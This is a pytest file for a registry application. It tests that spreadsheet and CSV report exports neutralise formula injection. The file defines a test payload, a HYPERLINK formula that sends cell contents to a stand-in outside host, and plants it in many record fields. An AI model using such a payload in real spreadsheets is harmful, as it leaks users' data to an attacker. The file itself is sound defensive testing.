"""No cell of an exported XLSX or CSV runs as a formula, whatever text the records hold."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import openpyxl
import pytest

import registry
from registry.extensions import db
from registry.models import Certificate, Plan, Province, Target
from registry.services import certificates, progress, reports
from registry.services.spreadsheets import FORMULA_TRIGGERS, append, csv_bytes, csv_cell, looks_like_formula, put
from tests.helpers import in_year, plan_year

# What a hostile producer or officer would type after the trigger: a formula that phones home.
PAYLOAD = 'HYPERLINK("http://e.vn/?"&A1)'


@pytest.fixture
def originals(app):
    """Reference rows (provinces, plans, targets) outlive a test on PostgreSQL: put back what a test planted."""
    kept: list[tuple[type, int, str, object]] = []
    yield kept
    db.session.rollback()
    for model, pk, field, value in kept:
        setattr(db.session.get(model, pk), field, value)
    db.session.commit()


def _plant(world, trigger: str, originals) -> dict[str, str]:
    """Every text field that reaches the annual report, set (past any input rule) to trigger + payload."""
    year = plan_year()  # a year of the plan's targets (2026–2030), whatever today is
    org = world.organization("thai-nguyen")
    body = world.body()
    cert = certificates.create_certificate(
        world.admin,
        {
            "number": "CN-TAM-01",
            "certification_body_id": body.id,
            "organization_id": org.id,
            "category": "product_standard",
            "issued_on": in_year(year, 1, 2),
        },
    )
    progress.record_figure(
        world.admin, "thai-nguyen", "TN-DISSEM", {"year": year, "value": 40, "as_of": date.today(), "evidence": "x"}
    )
    planted: dict[str, str] = {}

    def plant(record, field: str, name: str | None = None) -> None:
        name = name or f"{type(record).__name__}.{field}"
        length = getattr(type(record).__table__.c[field].type, "length", None)  # PostgreSQL holds it to that
        value = f"{trigger}{PAYLOAD} {name}"[:length]
        if isinstance(record, Province | Plan | Target):
            originals.append((type(record), record.id, field, getattr(record, field)))
        setattr(record, field, value)
        planted[name] = value

    cert = db.session.get(Certificate, cert.id)
    plant(cert, "number")
    plant(cert.organization, "name")
    plant(cert.body, "name")
    province = db.session.scalar(db.select(Province).filter_by(slug="thai-nguyen"))
    plant(province, "name")
    plant(db.session.scalar(db.select(Plan).filter_by(province_id=province.id)), "title")
    for code in ("TN-GUIDED", "TN-DISSEM"):
        target = db.session.scalar(db.select(Target).filter_by(code=code))
        for field in ("clause", "wording", "note", "unit"):
            plant(target, field, f"{code}.{field}")
    figure = progress.reported_figures(db.session.scalar(db.select(Target).filter_by(code="TN-DISSEM")))[0]
    plant(figure, "evidence")
    target = db.session.scalar(db.select(Target).filter_by(code="TN-STRAT-20"))
    plant(target, "code")
    db.session.commit()
    return planted


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=[f"U+{ord(c):04X}" for c in FORMULA_TRIGGERS])
def test_no_exported_cell_is_a_formula_and_every_planted_text_reads_as_typed(world, trigger, originals):
    planted = _plant(world, trigger, originals)
    report = reports.build_report("thai-nguyen", plan_year())

    wb = openpyxl.load_workbook(io.BytesIO(reports.render(report, "xlsx")))
    texts: list[str] = []
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    # Excel keeps formula-like text as text even when someone edits the cell.
                    assert cell.quotePrefix == looks_like_formula(cell.value), (ws.title, cell.coordinate)
                    texts.append(cell.value)
                else:
                    assert cell.data_type == "n"
                    numbers += 1
    assert numbers > 0, "the figures are still numbers"
    # Readable: the text is there as stored, with no marks added. A raw CR may come back as a line
    # feed (the standard library's XML parser) or as itself (lxml, when installed): compare both as LF.
    texts = [t.replace("\r", "\n") for t in texts]
    joined = "\n".join(texts)
    as_read = {field: value.replace("\r", "\n") for field, value in planted.items()}
    for field, value in as_read.items():
        assert value in joined, field
    for field in ("Certificate.number", "Organization.name", "CertificationBody.name", "TN-GUIDED.wording"):
        assert as_read[field] in texts, f"{field} is a cell of its own, kept as typed"

    rows = list(csv.reader(io.StringIO(reports.render(report, "csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    for value in cells:
        if value.startswith(FORMULA_TRIGGERS):
            float(value)  # only a number may start with '-' or '+'
    for field in ("TN-GUIDED.clause", "TN-GUIDED.wording", "TN-GUIDED.unit", "Target.code"):
        assert "'" + planted[field] in cells, field
    assert next(r[4] for r in rows if r[0] == "TN-GUIDED") == "70.0", "numbers are not prefixed"


def test_the_helpers_guard_text_and_leave_numbers_alone():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("-5") == "'-5" and csv_cell("\t=1") == "'\t=1"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell(None) == "" and csv_cell("Chè") == "Chè"
    assert csv_bytes([["@SUM(A1)", -3, "a-b"]]) == "\ufeff'@SUM(A1),-3,a-b\r\n".encode()

    wb = openpyxl.Workbook()
    ws = wb.active
    assert put(ws, 1, 1, "=1+1").data_type == "s"
    assert put(ws, 1, 2, -7).data_type == "n"
    assert put(ws, 1, 3, "bell\x07").value == "bell\ufffd", "XML cannot hold C0 controls; the export must not fail"
    append(ws, ["+1", "x"])
    append(ws, [])
    append(ws, ["last"])
    assert [c.value for c in ws[2]] == ["+1", "x", None] and ws["A4"].value == "last"
    out = io.BytesIO()
    wb.save(out)
    back = openpyxl.load_workbook(out).active
    assert back["A1"].value == "=1+1" and back["A1"].data_type == "s" and back["B1"].value == -7


def test_every_spreadsheet_writer_goes_through_the_guard():
    """A new export that writes cells itself (csv.writer, Worksheet.append, cell(value=…)) would skip the guard."""
    root = Path(registry.__file__).parent
    raw_writes = re.compile(r"csv\.(writer|DictWriter)\(|\.writerows?\(|\.append\(\s*\[|\.cell\([^)]*value=")
    offenders = []
    for path in root.rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if "openpyxl" not in source and "import csv" not in source:
            continue
        offenders += [f"{path.relative_to(root)}: {m.group(0)}" for m in raw_writes.finditer(source)]
    assert offenders == []
